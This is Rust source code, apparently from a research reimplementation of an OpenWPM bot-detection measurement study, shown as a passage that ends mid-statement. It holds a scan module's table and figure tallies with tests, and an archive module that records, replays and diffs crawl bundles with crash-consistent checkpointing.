    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

fn attribute_script(script_url: &str, site_etld1: &str, record: &mut SiteScanRecord) {
    let Some(u) = Url::parse(script_url) else { return };
    let host_etld1 = u.etld1();
    if host_etld1 == site_etld1 {
        record.first_party_urls.push(script_url.to_owned());
    } else {
        record.third_party_domains.push(host_etld1);
    }
}

/// Classify a first-party detector URL into a Table 12 origin cluster by
/// its path pattern (the attribution method of Appx. A).
pub fn first_party_origin_of(url: &str) -> &'static str {
    let path = Url::parse(url).map(|u| u.path).unwrap_or_default();
    if path.starts_with("/akam/11/") {
        "Akamai"
    } else if path.contains("_Incapsula_Resource") {
        "Incapsula"
    } else if path.starts_with("/cdn-cgi/bm/cv/") {
        "Cloudflare"
    } else if path.ends_with("/init.js")
        && path.split('/').nth(1).map(|s| s.len() == 8).unwrap_or(false)
    {
        "PerimeterX"
    } else if path.starts_with("/assets/")
        && path.split('/').nth(2).map(|s| s.len() >= 31 && s.chars().all(|c| c.is_ascii_hexdigit())).unwrap_or(false)
    {
        "Unknown"
    } else {
        "SelfBuilt"
    }
}

/// Whole-scan report.
#[derive(Clone, Debug, Default)]
pub struct ScanReport {
    pub n_sites: u32,
    pub sites: Vec<SiteScanRecord>,
}

impl ScanReport {
    pub fn count(&self, f: impl Fn(&SiteScanRecord) -> bool) -> u32 {
        self.sites.iter().filter(|s| f(s)).count() as u32
    }

    /// Table 5 rows: (static, dynamic, union) × (identified, true), over
    /// front + subpages.
    pub fn table5(&self) -> [(u32, u32); 3] {
        [
            (
                self.count(|s| s.site.static_identified),
                self.count(|s| s.site.static_true),
            ),
            (
                self.count(|s| s.site.dynamic_identified),
                self.count(|s| s.site.dynamic_true),
            ),
            (
                self.count(|s| s.site.union_identified()),
                self.count(|s| s.site.union_true()),
            ),
        ]
    }

    /// Table 6: OpenWPM-specific probes per provider domain × property.
    pub fn table6(&self) -> BTreeMap<String, BTreeMap<String, u32>> {
        let mut out: BTreeMap<String, BTreeMap<String, u32>> = BTreeMap::new();
        for site in &self.sites {
            let mut per_site: Vec<&(String, String)> = site.openwpm_probes.iter().collect();
            per_site.sort();
            per_site.dedup();
            for (provider, prop) in per_site {
                *out.entry(provider.clone()).or_default().entry(prop.clone()).or_insert(0) += 1;
            }
        }
        out
    }

    /// Table 7: third-party hosting domains by inclusion count (1/site).
    pub fn table7(&self) -> Vec<(String, u32)> {
        let mut tally: BTreeMap<String, u32> = BTreeMap::new();
        for site in &self.sites {
            for d in &site.third_party_domains {
                *tally.entry(d.clone()).or_insert(0) += 1;
            }
        }
        let mut v: Vec<(String, u32)> = tally.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v
    }

    /// Table 12: first-party origin clusters.
    pub fn table12(&self) -> BTreeMap<&'static str, u32> {
        let mut out: BTreeMap<&'static str, u32> = BTreeMap::new();
        for site in &self.sites {
            let mut origins: Vec<&'static str> =
                site.first_party_urls.iter().map(|u| first_party_origin_of(u)).collect();
            origins.sort();
            origins.dedup();
            for o in origins {
                *out.entry(o).or_insert(0) += 1;
            }
        }
        out
    }

    /// Fig. 3/4 series: per-1K-rank-bucket counts of
    /// `(front static, front dynamic, site static, site dynamic)`.
    pub fn rank_buckets(&self, bucket: u32) -> Vec<[u32; 4]> {
        let nb = self.n_sites.div_ceil(bucket);
        let mut out = vec![[0u32; 4]; nb as usize];
        for s in &self.sites {
            let b = (s.rank / bucket) as usize;
            if s.front.static_true {
                out[b][0] += 1;
            }
            if s.front.dynamic_true {
                out[b][1] += 1;
            }
            if s.site.static_true {
                out[b][2] += 1;
            }
            if s.site.dynamic_true {
                out[b][3] += 1;
            }
        }
        out
    }

    /// Fig. 5: category tallies for first-party vs third-party detector
    /// sites.
    pub fn category_tallies(&self) -> (BTreeMap<&'static str, u32>, BTreeMap<&'static str, u32>) {
        let mut first: BTreeMap<&'static str, u32> = BTreeMap::new();
        let mut third: BTreeMap<&'static str, u32> = BTreeMap::new();
        for s in &self.sites {
            if !s.site.union_true() {
                continue;
            }
            let target = if s.first_party_urls.is_empty() { &mut third } else { &mut first };
            for c in &s.categories {
                *target.entry(c.name()).or_insert(0) += 1;
            }
        }
        (first, third)
    }

    /// Corpus statistics: `(scripts collected, unique bodies)` — the paper
    /// collected 1,535,306 unique scripts over its crawl.
    pub fn script_stats(&self) -> (u64, u64) {
        let mut total = 0u64;
        let mut seen = std::collections::HashSet::new();
        for site in &self.sites {
            total += site.script_hashes.len() as u64;
            seen.extend(site.script_hashes.iter().copied());
        }
        (total, seen.len() as u64)
    }

    /// Total first-party vs third-party detector inclusions (Sec. 4.3).
    pub fn inclusion_totals(&self) -> (u32, u32) {
        let first = self.sites.iter().map(|s| s.first_party_urls.len() as u32).sum();
        let third = self.sites.iter().map(|s| s.third_party_domains.len() as u32).sum();
        (first, third)
    }
}

/// Run the full scan.
pub fn run_scan(cfg: ScanConfig) -> ScanReport {
    let pop = Population::new(cfg.n_sites, cfg.seed);
    let ranks: Vec<u32> = (0..cfg.n_sites).collect();
    let include_subpages = cfg.include_subpages;
    let seed = cfg.seed;
    let interact = cfg.simulate_interaction;
    let sites = run_parallel(
        ranks,
        cfg.workers,
        move |worker| {
            let mut config = BrowserConfig::scanner(seed ^ worker as u64);
            config.simulate_interaction = interact;
            Browser::new(config).with_instance(worker as u32)
        },
        move |browser, _idx, rank| {
            let plan = pop.plan(rank);
            scan_site(browser, &plan, include_subpages)
        },
    );
    ScanReport { n_sites: cfg.n_sites, sites }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_scan() -> ScanReport {
        run_scan(ScanConfig { ..ScanConfig::new(800, 11) })
    }

    #[test]
    fn scan_detects_sites_at_paper_like_rates() {
        let report = small_scan();
        let [(_si, st), (_di, dt), (ui, ut)] = report.table5();
        // At n=800 the paper's rates scale to: static true ≈ 127,
        // dynamic true ≈ 134, union true ≈ 150, identified union ≈ 290.
        assert!((90..=175).contains(&st), "static true = {st}");
        assert!((95..=180).contains(&dt), "dynamic true = {dt}");
        assert!((110..=200).contains(&ut), "union true = {ut}");
        assert!(ui > ut, "identified ({ui}) must exceed true ({ut}) — FP classes exist");
    }

    #[test]
    fn static_and_dynamic_have_exclusive_findings() {
        let report = small_scan();
        let static_only =
            report.count(|s| s.site.static_true && !s.site.dynamic_true);
        let dynamic_only =
            report.count(|s| s.site.dynamic_true && !s.site.static_true);
        assert!(static_only > 0, "hover-gated detectors must be static-only");
        assert!(dynamic_only > 0, "constructed probes must be dynamic-only");
    }

    #[test]
    fn subpages_increase_detection() {
        let report = small_scan();
        let front = report.count(|s| s.front.union_true());
        let site = report.count(|s| s.site.union_true());
        assert!(site > front, "subpage scan must add detector sites: {front} vs {site}");
        // Paper: ≥ 37% more sites with active (dynamic) detectors.
        let front_dyn = report.count(|s| s.front.dynamic_true);
        let site_dyn = report.count(|s| s.site.dynamic_true);
        assert!(
            site_dyn as f64 >= front_dyn as f64 * 1.15,
            "dynamic uplift too small: {front_dyn} -> {site_dyn}"
        );
    }

    #[test]
    fn openwpm_specific_probes_found() {
        let report = small_scan();
        let t6 = report.table6();
        // cheqzone is by far the largest provider (331/100K ⇒ ~2-3 at 800).
        assert!(
            t6.contains_key("cheqzone.com"),
            "providers found: {:?}",
            t6.keys().collect::<Vec<_>>()
        );
        let cheq = &t6["cheqzone.com"];
        assert!(cheq.contains_key("jsInstruments"), "cheq probes: {cheq:?}");
    }

    #[test]
    fn third_party_providers_ranked_with_yandex_on_top() {
        let report = small_scan();
        let t7 = report.table7();
        assert!(!t7.is_empty());
        // yandex.ru holds ~18% of inclusions — it must rank in the top 3.
        let top3: Vec<&str> = t7.iter().take(3).map(|(d, _)| d.as_str()).collect();
        assert!(top3.contains(&"yandex.ru"), "top3: {top3:?}");
    }

    #[test]
    fn first_party_clusters_match_table12_patterns() {
        let report = small_scan();
        let t12 = report.table12();
        let total: u32 = t12.values().sum();
        // 3,867/100K ⇒ ~31 at n=800.
        assert!((15..=50).contains(&total), "first-party sites = {total}, {t12:?}");
        assert!(t12.contains_key("Akamai") || t12.contains_key("Incapsula"), "{t12:?}");
    }

    #[test]
    fn first_party_origin_classifier() {
        assert_eq!(first_party_origin_of("https://a.com/akam/11/pixel"), "Akamai");
        assert_eq!(
            first_party_origin_of("https://a.com/_Incapsula_Resource?x=1"),
            "Incapsula"
        );
        assert_eq!(
            first_party_origin_of("https://a.com/cdn-cgi/bm/cv/2172558837/api.js"),
            "Cloudflare"
        );
        assert_eq!(first_party_origin_of("https://a.com/abcdefgh/init.js"), "PerimeterX");
        assert_eq!(
            first_party_origin_of(&format!("https://a.com/assets/{:032x}", 0xabcdu64)),
            "Unknown"
        );
        assert_eq!(first_party_origin_of("https://a.com/js/bot-check.js"), "SelfBuilt");
    }

    #[test]
    fn interaction_surfaces_hover_gated_detectors_dynamically() {
        // Ablation: an HLISA-style interacting crawl executes the
        // hover-gated probes that the paper's non-interacting scan could
        // only find statically.
        let passive = run_scan(ScanConfig::new(600, 11));
        let active = run_scan(ScanConfig {
            simulate_interaction: true,
            ..ScanConfig::new(600, 11)
        });
        let passive_dyn = passive.count(|s| s.site.dynamic_true);
        let active_dyn = active.count(|s| s.site.dynamic_true);
        assert!(
            active_dyn > passive_dyn,
            "interaction must add dynamic findings: {passive_dyn} -> {active_dyn}"
        );
        // Static findings are unaffected by interaction.
        assert_eq!(
            passive.count(|s| s.site.static_true),
            active.count(|s| s.site.static_true)
        );
    }

    #[test]
    fn script_stats_count_collected_and_unique() {
        let report = small_scan();
        let (total, unique) = report.script_stats();
        assert!(total > 0);
        assert!(unique > 0 && unique <= total);
        // Shared third-party detector bodies dedupe heavily, per-site
        // scripts stay distinct-ish.
        assert!(unique < total, "shared provider scripts must dedupe");
    }

    #[test]
    fn rank_buckets_cover_all_sites() {
        let report = small_scan();
        let buckets = report.rank_buckets(100);
        assert_eq!(buckets.len(), 8);
        let front_static_total: u32 = buckets.iter().map(|b| b[0]).sum();
        assert_eq!(front_static_total, report.count(|s| s.front.static_true));
    }
}
