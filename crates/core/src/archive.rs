//! Crawl archive: record a scan into a content-addressed bundle and
//! replay the whole measurement pipeline from it.
//!
//! The paper's worry (Sec. 5) is that recorded data silently diverges
//! from what the browser actually executed; its impact evaluation
//! (Sec. 6.3) hinges on re-running the *same* sites under two client
//! configurations. Following Hantke et al.'s *Web Execution Bundles*,
//! this module pins a crawl to disk:
//!
//! * **Record** — `Scan::new(cfg).record(dir)` runs a normal scan while a
//!   [`Recorder`] hook archives, per site: every served script body
//!   (deduplicated through the FNV-64 content store), the page structure
//!   (URLs, CSP, dwell, static subresources), the typed
//!   [`VisitOutcome`], the attempt count, and a [`StoreCapture`]
//!   fingerprint of every instrument record the visit produced.
//! * **Replay** — `Scan::new(cfg).replay(dir)` re-runs the *entire*
//!   pipeline (jsengine execution, instruments, detect static+dynamic
//!   classification, supervisor fault weather) with `webgen` bypassed:
//!   page content comes from the bundle, not the generator. Every
//!   re-derived outcome is compared field-by-field against the recorded
//!   one; divergences are counted, and the telemetry digest must come
//!   out byte-identical to the recording run's.
//! * **Diff** — [`diff_bundles`] compares two bundles (e.g. a WPM and a
//!   WPM_hide run over the same seed) and reports per-site record
//!   deltas, the Sec. 6.3 comparison pinned to on-disk corpora.
//!
//! All bookkeeping lands in `archive.*` metrics, which are excluded from
//! the telemetry digest — recording must not perturb provenance.

use std::collections::{BTreeSet, HashMap};
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use ::archive::{BundleReader, BundleWriter};
use browser::CspPolicy;
use netsim::ResourceType;
use openwpm::{
    CrashInjector, CrawlSummary, FailureReason, FaultPlan, KillPoint, PageScript, RetryPolicy,
    StoreCapture, VisitOutcome, VisitSpec,
};
use webgen::{Category, Population};

use crate::scan::{
    decode_site_record, encode_site_record, site_visit, ScanConfig, ScanReport, SiteScanRecord,
    SiteVisit,
};

// Separators. The bundle layer reserves `\n` and US (`\x1f`); the
// checkpoint encoding inside site records uses RS/GS/FS (`\x1e`..`\x1c`).
// The archive's own nesting levels take the low control characters, which
// cannot occur in generated domains, URLs, script bodies or properties.
const F: char = '\x01'; // between site-entry fields
const PAGE: char = '\x02'; // between pages
const PF: char = '\x03'; // between page fields
const LIST: char = '\x1d'; // between list elements (GS, as elsewhere)
const PAIR: char = '\x1c'; // inside list elements (FS, as elsewhere)

/// Counters describing what a recording run archived; attached to
/// [`ScanReport::archive`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ArchiveStats {
    /// Sites written to the bundle (completed + failed + interrupted).
    pub sites: u64,
    /// Unique script/resource bodies in the blob store.
    pub blobs_written: u64,
    /// Bytes of unique blob content.
    pub blob_bytes: u64,
    /// Blob puts answered by dedup — equals (bodies served − unique
    /// bodies), the corpus-statistics prediction the property test pins.
    pub dedup_hits: u64,
}

/// Counters describing a replay run; attached to [`ScanReport::replay`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ReplayStats {
    /// Sites re-measured from the bundle.
    pub sites: u64,
    /// Sites whose re-derived outcome differed in any field from the
    /// recorded one. Zero is the reproducibility guarantee.
    pub divergences: u64,
}

/// The run summary sealed into a bundle's commit line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct CommitInfo {
    pub completed: usize,
    pub failed: usize,
    pub interrupted: usize,
    /// Table 5 of the recording run: (static, dynamic, union) ×
    /// (identified, true).
    pub table5: [(u32, u32); 3],
    /// FNV-64 folded over every site entry's line hash in rank order —
    /// order-independent of worker scheduling, sensitive to any byte of
    /// any record.
    pub records_digest: u64,
    /// Telemetry digest of the recording run at commit time
    /// (`obs::Snapshot::digest`, which excludes `cache.*`/`archive.*`).
    pub telemetry_digest: u64,
    /// Whether metrics were armed when recording; the digest is only
    /// comparable between runs with matching telemetry state.
    pub stats_enabled: bool,
}

impl CommitInfo {
    fn encode(&self) -> String {
        let t = self.table5;
        format!(
            "{}{LIST}{}{LIST}{}{LIST}{},{},{},{},{},{}{LIST}{:016x}{LIST}{:016x}{LIST}{}",
            self.completed,
            self.failed,
            self.interrupted,
            t[0].0,
            t[0].1,
            t[1].0,
            t[1].1,
            t[2].0,
            t[2].1,
            self.records_digest,
            self.telemetry_digest,
            self.stats_enabled as u8
        )
    }

    fn decode(s: &str) -> Option<CommitInfo> {
        let parts: Vec<&str> = s.split(LIST).collect();
        let [completed, failed, interrupted, t5, records, telemetry, stats] = parts.as_slice()
        else {
            return None;
        };
        let t: Vec<u32> = t5.split(',').map(|v| v.parse().ok()).collect::<Option<_>>()?;
        let [a, b, c, d, e, f] = t.as_slice() else { return None };
        Some(CommitInfo {
            completed: completed.parse().ok()?,
            failed: failed.parse().ok()?,
            interrupted: interrupted.parse().ok()?,
            table5: [(*a, *b), (*c, *d), (*e, *f)],
            records_digest: u64::from_str_radix(records, 16).ok()?,
            telemetry_digest: u64::from_str_radix(telemetry, 16).ok()?,
            stats_enabled: *stats == "1",
        })
    }
}

// --- per-visit capture hand-off --------------------------------------------
//
// `scan_site_visit` computes the per-site `StoreCapture` on the worker
// thread; the supervisor invokes `on_complete` on that same thread, inside
// the still-open visit scope, immediately after the final attempt. A
// thread-local cell is therefore a race-free channel from the visit body
// to the Recorder/Verifier hook without widening every signature in
// between.

thread_local! {
    static CAPTURE: std::cell::Cell<Option<StoreCapture>> =
        const { std::cell::Cell::new(None) };
}

pub(crate) fn stash_capture(c: Option<StoreCapture>) {
    CAPTURE.with(|cell| cell.set(c));
}

pub(crate) fn take_capture() -> Option<StoreCapture> {
    CAPTURE.with(|cell| cell.take())
}

/// Fold per-page captures into one per-site capture: counts add, digests
/// fold in page order.
pub(crate) fn fold_captures(pages: &[StoreCapture]) -> StoreCapture {
    let mut acc = StoreCapture::default();
    let mut digest = String::new();
    for p in pages {
        acc.js_calls += p.js_calls;
        acc.http_requests += p.http_requests;
        acc.http_responses += p.http_responses;
        acc.saved_scripts += p.saved_scripts;
        acc.cookies += p.cookies;
        acc.crawl_history += p.crawl_history;
        acc.malformed_events += p.malformed_events;
        digest.push_str(&format!("{:016x}", p.digest));
    }
    acc.digest = obs::fnv1a(digest.as_bytes());
    acc
}

// --- encodings -------------------------------------------------------------

fn join_list<T>(items: &[T], f: impl Fn(&T) -> String) -> String {
    items.iter().map(f).collect::<Vec<String>>().join(&LIST.to_string())
}

fn split_list(s: &str) -> Vec<&str> {
    if s.is_empty() { Vec::new() } else { s.split(LIST).collect() }
}

fn invalid(msg: String) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

fn encode_config(cfg: &ScanConfig) -> String {
    let f = &cfg.faults;
    let r = &cfg.retry;
    [
        cfg.n_sites.to_string(),
        cfg.seed.to_string(),
        (cfg.include_subpages as u8).to_string(),
        (cfg.simulate_interaction as u8).to_string(),
        cfg.flaky_sites_per_100k.to_string(),
        cfg.visit_timeout_ms.to_string(),
        format!("{},{},{}", r.max_attempts, r.base_backoff_ms, r.max_backoff_ms),
        format!(
            "{},{},{},{},{},{},{}",
            f.crash_per_mille,
            f.hang_per_mille,
            f.nav_error_per_mille,
            f.tab_crash_per_mille,
            f.http_flaky_per_mille,
            f.flaky_site_boost_pm,
            f.seed
        ),
        cfg.visit_budget.map(|b| b.to_string()).unwrap_or_default(),
    ]
    .join(&PAIR.to_string())
}

/// Inverse of [`encode_config`]; `workers` stays the replaying caller's
/// choice because results are worker-count independent.
fn decode_config(s: &str, workers: usize) -> Option<ScanConfig> {
    let parts: Vec<&str> = s.split(PAIR).collect();
    let [n_sites, seed, subpages, interact, flaky, timeout, retry, faults, budget] =
        parts.as_slice()
    else {
        return None;
    };
    let r: Vec<u64> = retry.split(',').map(|v| v.parse().ok()).collect::<Option<_>>()?;
    let [max_attempts, base_backoff_ms, max_backoff_ms] = r.as_slice() else { return None };
    let fp: Vec<u64> = faults.split(',').map(|v| v.parse().ok()).collect::<Option<_>>()?;
    let [crash, hang, nav, tab, http, boost, fseed] = fp.as_slice() else { return None };
    Some(ScanConfig {
        n_sites: n_sites.parse().ok()?,
        seed: seed.parse().ok()?,
        workers,
        include_subpages: *subpages == "1",
        simulate_interaction: *interact == "1",
        faults: FaultPlan {
            crash_per_mille: *crash as u32,
            hang_per_mille: *hang as u32,
            nav_error_per_mille: *nav as u32,
            tab_crash_per_mille: *tab as u32,
            http_flaky_per_mille: *http as u32,
            flaky_site_boost_pm: *boost as u32,
            seed: *fseed,
        },
        retry: RetryPolicy {
            max_attempts: *max_attempts as u32,
            base_backoff_ms: *base_backoff_ms,
            max_backoff_ms: *max_backoff_ms,
        },
        visit_timeout_ms: timeout.parse().ok()?,
        flaky_sites_per_100k: flaky.parse().ok()?,
        visit_budget: if budget.is_empty() { None } else { Some(budget.parse().ok()?) },
    })
}

/// Encode one page's served content, archiving every body as a blob.
fn encode_page(spec: &VisitSpec, writer: &BundleWriter) -> io::Result<String> {
    let mut scripts = Vec::with_capacity(spec.scripts.len());
    for s in &spec.scripts {
        let hash = writer.put_blob(&s.source)?;
        scripts.push(format!("{}{PAIR}{}{PAIR}{hash:016x}", s.url, s.content_type));
    }
    let mut server = Vec::with_capacity(spec.server_resources.len());
    for (url, ct, body) in &spec.server_resources {
        let hash = writer.put_blob(body)?;
        server.push(format!("{url}{PAIR}{ct}{PAIR}{hash:016x}"));
    }
    let statics = join_list(&spec.static_requests, |(url, rt)| {
        format!("{url}{PAIR}{}", rt.as_str())
    });
    Ok([
        spec.url.clone(),
        spec.dwell_override_s.map(|d| d.to_string()).unwrap_or_default(),
        spec.csp.as_ref().map(CspPolicy::encode).unwrap_or_default(),
        scripts.join(&LIST.to_string()),
        server.join(&LIST.to_string()),
        statics,
    ]
    .join(&PF.to_string()))
}

/// Inverse of [`encode_page`], resolving bodies from the blob store.
fn decode_page(s: &str, reader: &BundleReader) -> Option<VisitSpec> {
    let parts: Vec<&str> = s.split(PF).collect();
    let [url, dwell, csp, scripts, server, statics] = parts.as_slice() else {
        return None;
    };
    let mut spec = VisitSpec {
        url: url.to_string(),
        ..VisitSpec::default()
    };
    if !dwell.is_empty() {
        spec.dwell_override_s = Some(dwell.parse().ok()?);
    }
    if !csp.is_empty() {
        spec.csp = Some(CspPolicy::decode(csp)?);
    }
    for entry in split_list(scripts) {
        let f: Vec<&str> = entry.split(PAIR).collect();
        let [su, ct, hash] = f.as_slice() else { return None };
        let body = reader.blob(u64::from_str_radix(hash, 16).ok()?)?;
        spec.scripts.push(PageScript {
            url: su.to_string(),
            source: body,
            content_type: ct.to_string(),
        });
    }
    for entry in split_list(server) {
        let f: Vec<&str> = entry.split(PAIR).collect();
        let [su, ct, hash] = f.as_slice() else { return None };
        let body = reader.blob(u64::from_str_radix(hash, 16).ok()?)?;
        spec.server_resources.push((su.to_string(), ct.to_string(), body.to_string()));
    }
    for entry in split_list(statics) {
        let (su, rt) = entry.split_once(PAIR)?;
        spec.static_requests.push((su.to_string(), ResourceType::parse(rt)?));
    }
    Some(spec)
}

/// The four result fields shared by the Recorder (what gets written) and
/// the Verifier (what the replayed outcome is compared against):
/// `attempts F status F payload F capture`.
fn result_fields(
    outcome: &VisitOutcome<SiteScanRecord>,
    attempts: u32,
    capture: Option<StoreCapture>,
) -> String {
    let (status, payload, cap) = match outcome {
        VisitOutcome::Completed(rec) => (
            "ok",
            encode_site_record(rec),
            capture.unwrap_or_default().encode(),
        ),
        VisitOutcome::Failed { reason, .. } => {
            ("failed", reason.as_str().to_string(), String::new())
        }
        VisitOutcome::Interrupted => ("interrupted", String::new(), String::new()),
    };
    result_fields_of(status, &payload, &cap, attempts)
}

fn result_fields_of(status: &str, payload: &str, cap: &str, attempts: u32) -> String {
    format!("{attempts}{F}{status}{F}{payload}{F}{cap}")
}

// --- recording -------------------------------------------------------------

/// Archives one scan into a bundle. Created by `Scan::record`; its hook
/// runs on worker threads, so all state is behind locks. I/O errors are
/// latched and surfaced at [`Recorder::finish`] (the `on_complete`
/// channel has no error path).
pub(crate) struct Recorder {
    writer: BundleWriter,
    pop: Population,
    include_subpages: bool,
    line_hashes: Mutex<Vec<Option<u64>>>,
    err: Mutex<Option<io::Error>>,
}

impl Recorder {
    pub(crate) fn create(dir: &Path, cfg: &ScanConfig) -> io::Result<Recorder> {
        let writer = BundleWriter::create(dir, &encode_config(cfg))?;
        Ok(Recorder {
            writer,
            pop: cfg.population(),
            include_subpages: cfg.include_subpages,
            line_hashes: Mutex::new(vec![None; cfg.n_sites as usize]),
            err: Mutex::new(None),
        })
    }

    /// Record one determined site (the `on_complete` hook).
    pub(crate) fn record(
        &self,
        rank: usize,
        outcome: &VisitOutcome<SiteScanRecord>,
        attempts: u32,
    ) {
        let rf = result_fields(outcome, attempts, take_capture());
        if let Err(e) = self.try_record(rank, &rf) {
            self.err.lock().unwrap().get_or_insert(e);
        }
    }

    fn try_record(&self, rank: usize, rf: &str) -> io::Result<()> {
        // Re-materialise the pages the visit served: generation is
        // deterministic in (population, rank) and bodies are memoised, so
        // this is what the browser saw, at Arc-clone cost.
        let visit = site_visit(&self.pop.plan(rank as u32), self.include_subpages);
        let mut pages = Vec::with_capacity(visit.pages.len());
        for spec in &visit.pages {
            pages.push(encode_page(spec, &self.writer)?);
        }
        let payload = format!(
            "{rank}{F}{}{F}{}{F}{}{F}{rf}{F}{}",
            visit.domain,
            join_list(&visit.categories, |c| c.name().to_string()),
            visit.flaky as u8,
            pages.join(&PAGE.to_string())
        );
        self.writer.append_entry(&payload)?;
        self.line_hashes.lock().unwrap()[rank] = Some(obs::fnv1a(payload.as_bytes()));
        Ok(())
    }

    /// Seal the bundle with the run summary and return archive stats.
    pub(crate) fn finish(self, report: &ScanReport) -> io::Result<ArchiveStats> {
        if let Some(e) = self.err.into_inner().unwrap() {
            return Err(e);
        }
        let hashes = self.line_hashes.into_inner().unwrap();
        let mut digest = String::new();
        for (rank, h) in hashes.iter().enumerate() {
            let h = h.ok_or_else(|| {
                invalid(format!("bundle incomplete: site {rank} was never recorded"))
            })?;
            digest.push_str(&format!("{h:016x}"));
        }
        let info = CommitInfo {
            completed: report.completion.completed,
            failed: report.completion.failed,
            interrupted: report.completion.interrupted,
            table5: report.table5(),
            records_digest: obs::fnv1a(digest.as_bytes()),
            telemetry_digest: obs::registry().snapshot().digest(),
            stats_enabled: obs::stats_enabled(),
        };
        let stats = self.writer.commit(&info.encode())?;
        Ok(ArchiveStats {
            sites: stats.entries,
            blobs_written: stats.blobs_written,
            blob_bytes: stats.blob_bytes,
            dedup_hits: stats.dedup_hits,
        })
    }
}

// --- streaming -------------------------------------------------------------

/// The determined outcome a stream flush persists: either a completed
/// record (borrowed — it is dropped right after the flush) or a typed
/// failure. Interruptions are never flushed; an interrupted rank simply
/// has no checkpoint line and is re-visited on resume.
pub(crate) enum StreamOutcome<'a> {
    Ok(&'a SiteScanRecord),
    Failed(&'a FailureReason),
}

/// The config identity a stream bundle carries. `visit_budget` is a
/// run-level interruption knob — "stop after N sites this run" — not part
/// of the experiment: a budgeted partial stream must be resumable (and
/// comparable) without it.
fn stream_config(cfg: &ScanConfig) -> String {
    encode_config(&ScanConfig { visit_budget: None, ..*cfg })
}

struct StreamState {
    ckpt: BufWriter<File>,
    line_hashes: Vec<Option<u64>>,
    flushed: u64,
}

/// Crash-consistent incremental recorder: each determined visit is
/// appended to the bundle manifest and then acknowledged with one
/// checkpoint line carrying the manifest high-water mark, so at every
/// instant the durable state is `trusted bundle prefix + (maybe) one torn
/// tail`. Worker threads flush concurrently; the entry-append → line-write
/// pair is serialised so high-water marks are monotone in checkpoint-file
/// order. Locks recover from poisoning (`into_inner`) because an injected
/// crash unwinds through them by design.
pub(crate) struct StreamRecorder {
    writer: BundleWriter,
    pop: Population,
    include_subpages: bool,
    injector: Option<CrashInjector>,
    state: Mutex<StreamState>,
    err: Mutex<Option<io::Error>>,
}

impl StreamRecorder {
    pub(crate) fn create(
        dir: &Path,
        cfg: &ScanConfig,
        ckpt: File,
        injector: Option<CrashInjector>,
    ) -> io::Result<StreamRecorder> {
        let writer = BundleWriter::create(dir, &stream_config(cfg))?;
        Ok(Self::with_writer(writer, cfg, ckpt, vec![None; cfg.n_sites as usize], injector))
    }

    /// Reopen a partial bundle for appending, truncating everything past
    /// the checkpointed high-water mark, with the trusted entries' hashes
    /// pre-seeded so the final commit digest covers replayed ranks too.
    pub(crate) fn resume(
        dir: &Path,
        cfg: &ScanConfig,
        truncate_to: u64,
        ckpt: File,
        line_hashes: Vec<Option<u64>>,
        injector: Option<CrashInjector>,
    ) -> io::Result<StreamRecorder> {
        let writer = BundleWriter::append_to(dir, &stream_config(cfg), truncate_to)?;
        Ok(Self::with_writer(writer, cfg, ckpt, line_hashes, injector))
    }

    fn with_writer(
        writer: BundleWriter,
        cfg: &ScanConfig,
        ckpt: File,
        line_hashes: Vec<Option<u64>>,
        injector: Option<CrashInjector>,
    ) -> StreamRecorder {
        StreamRecorder {
            writer,
            pop: cfg.population(),
            include_subpages: cfg.include_subpages,
            injector,
            state: Mutex::new(StreamState {
                ckpt: BufWriter::new(ckpt),
                line_hashes,
                flushed: 0,
            }),
            err: Mutex::new(None),
        }
    }

    /// Durably persist one determined visit (the `on_complete` hook).
    pub(crate) fn flush(&self, rank: u32, outcome: StreamOutcome<'_>, attempts: u32, delta: &str) {
        if let Err(e) = self.try_flush(rank, outcome, attempts, delta) {
            self.err
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .get_or_insert(e);
        }
    }

    fn try_flush(
        &self,
        rank: u32,
        outcome: StreamOutcome<'_>,
        attempts: u32,
        delta: &str,
    ) -> io::Result<()> {
        let _flush_ph = obs::prof::enter(&obs::prof::ARCHIVE_FLUSH);
        if let Some(inj) = &self.injector {
            // Once any worker has hit its kill point the process is
            // notionally dead: nothing more may reach disk.
            if inj.tripped() {
                inj.die();
            }
        }
        let encode_ph = obs::prof::enter(&obs::prof::ARCHIVE_ENCODE);
        let (status, payload, cap) = match outcome {
            StreamOutcome::Ok(rec) => (
                "ok",
                encode_site_record(rec),
                take_capture().unwrap_or_default().encode(),
            ),
            StreamOutcome::Failed(reason) => ("failed", reason.as_str().to_string(), String::new()),
        };
        let rf = result_fields_of(status, &payload, &cap, attempts);
        // Page re-materialisation and blob writes happen outside the
        // serialising lock — the blob store has its own dedup lock.
        let visit = site_visit(&self.pop.plan(rank), self.include_subpages);
        let mut pages = Vec::with_capacity(visit.pages.len());
        for spec in &visit.pages {
            pages.push(encode_page(spec, &self.writer)?);
        }
        let entry = format!(
            "{rank}{F}{}{F}{}{F}{}{F}{rf}{F}{}",
            visit.domain,
            join_list(&visit.categories, |c| c.name().to_string()),
            visit.flaky as u8,
            pages.join(&PAGE.to_string())
        );
        let hash = obs::fnv1a(entry.as_bytes());
        drop(encode_ph);
        let (line_status, line_payload) = match outcome {
            StreamOutcome::Ok(_) => ("flushed", format!("{hash:016x}")),
            StreamOutcome::Failed(reason) => ("failed", reason.as_str().to_string()),
        };
        // Death is always delivered while still holding the lock: the
        // unwind releases it, and every other worker's next `begin_flush`
        // (also under the lock) dies fast — so, exactly like a SIGKILL,
        // nothing reaches disk after the kill point.
        let mut st = self.state.lock().unwrap_or_else(|e| e.into_inner());
        let action = self.injector.as_ref().and_then(|i| i.begin_flush());
        if let Some(KillPoint::MidBundleAppend(_, keep)) = action {
            self.writer.append_entry_torn(&entry, keep)?;
            self.injector.as_ref().unwrap().die();
        }
        let hwm = self.writer.append_entry(&entry)?;
        st.line_hashes[rank as usize] = Some(hash);
        st.flushed += 1;
        let line =
